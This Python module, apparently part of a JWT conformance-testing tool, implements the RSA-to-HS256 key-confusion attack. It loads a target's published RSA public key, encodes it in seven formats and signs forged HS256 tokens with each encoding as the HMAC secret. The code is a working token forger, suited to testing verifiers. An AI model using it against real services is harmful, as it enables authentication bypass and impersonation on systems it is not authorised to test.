"""Key confusion: an HS256 token whose HMAC secret is the target's own public key.

A verifier that takes the algorithm from the token and hands the configured public key to
``decode`` verifies an HMAC over whatever bytes it holds for that key. Which bytes those are
depends on the library and on how the key was loaded, so every usual encoding is tried.
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa

from conformance.attacks.forging import Forged, claims_of, hmac_sign, key_naming_header
from conformance.minting import b64url_decode


@dataclass(frozen=True)
class KeyEncoding:
    name: str  # as ``authconform forge key-confusion --encoding`` takes it
    label: str  # as a report says it
    secret: bytes


def rsa_jwks_keys(jwks: Any) -> list[dict[str, Any]]:
    """The RSA keys of a JWKS document that parse as public keys (others are skipped)."""
    keys = jwks.get("keys") if isinstance(jwks, dict) else None
    found = []
    for jwk in keys if isinstance(keys, list) else []:
        if isinstance(jwk, dict) and jwk.get("kty") == "RSA" and _public_key(jwk) is not None:
            found.append(jwk)
    return found


def _public_key(jwk: dict[str, Any]) -> rsa.RSAPublicKey | None:
    try:
        n = int.from_bytes(b64url_decode(str(jwk["n"])), "big")
        e = int.from_bytes(b64url_decode(str(jwk["e"])), "big")
        return rsa.RSAPublicNumbers(e, n).public_key()
    except (KeyError, ValueError, TypeError):
        return None


def jwk_of_pem(pem: bytes) -> dict[str, Any]:
    """The public JWK of a PEM RSA public key, certificate-free (for ``forge --pem FILE``)."""
    from jwt.algorithms import RSAAlgorithm

    key = serialization.load_pem_public_key(pem)
    if not isinstance(key, rsa.RSAPublicKey):
        raise ValueError("the PEM file holds no RSA public key; key confusion needs the RSA key the target "
                         "verifies with")
    jwk: dict[str, Any] = json.loads(RSAAlgorithm.to_jwk(key))
    return jwk


def encodings(jwk: dict[str, Any]) -> list[KeyEncoding]:
    """Every encoding of the JWK's RSA public key a verifier may hold as its key bytes."""
    public = _public_key(jwk)
    if public is None:
        raise ValueError("the JWK is not an RSA public key (kty RSA with n and e)")
    pem, der = serialization.Encoding.PEM, serialization.Encoding.DER
    spki, pkcs1 = serialization.PublicFormat.SubjectPublicKeyInfo, serialization.PublicFormat.PKCS1
    spki_pem, pkcs1_pem = public.public_bytes(pem, spki), public.public_bytes(pem, pkcs1)
    return [
        KeyEncoding("spki-pem", "SubjectPublicKeyInfo PEM (with final newline)", spki_pem),
        KeyEncoding("spki-pem-bare", "SubjectPublicKeyInfo PEM (without final newline)", spki_pem.rstrip(b"\n")),
        KeyEncoding("pkcs1-pem", "PKCS#1 PEM (with final newline)", pkcs1_pem),
        KeyEncoding("pkcs1-pem-bare", "PKCS#1 PEM (without final newline)", pkcs1_pem.rstrip(b"\n")),
        KeyEncoding("spki-der", "SubjectPublicKeyInfo DER", public.public_bytes(der, spki)),
        KeyEncoding("pkcs1-der", "PKCS#1 DER", public.public_bytes(der, pkcs1)),
        KeyEncoding("jwk-json", "JWK JSON as published", json.dumps(jwk).encode()),
    ]


def jwks_source(base_url: str, path: str) -> str:
    """Where a recipe says the key set is: the whole URL when the target's base URL is known, else
    its path (``authconform forge`` joins a path with ``$BASE_URL``)."""
    return base_url.rstrip("/") + path if base_url else path


ENCODING_NAMES = ("spki-pem", "spki-pem-bare", "pkcs1-pem", "pkcs1-pem-bare", "spki-der", "pkcs1-der", "jwk-json")


def key_confusion(token: str, jwk: dict[str, Any], encoding: KeyEncoding, *, source: str = "",
                  claims: dict[str, Any] | None = None, key_index: int = 1) -> Forged:
    """The token (or ``claims``) as HS256 keyed with ``encoding`` of the published key. The kid is
    the real token's, else the JWK's. ``source`` is the JWKS URL or PEM file the recipe names."""
    header: dict[str, Any] = {"alg": "HS256", "typ": "JWT", **key_naming_header(token)}
    if "kid" not in header and jwk.get("kid"):
        header["kid"] = jwk["kid"]
    signed = hmac_sign(header, claims if claims is not None else claims_of(token), encoding.secret)
    where = ["--pem", source] if source.endswith(".pem") else ["--jwks", source or "JWKS_URL"]
    index = ["--key-index", str(key_index)] if key_index != 1 else []
    return Forged(signed, "key-confusion", *where, *index, "--encoding", encoding.name)
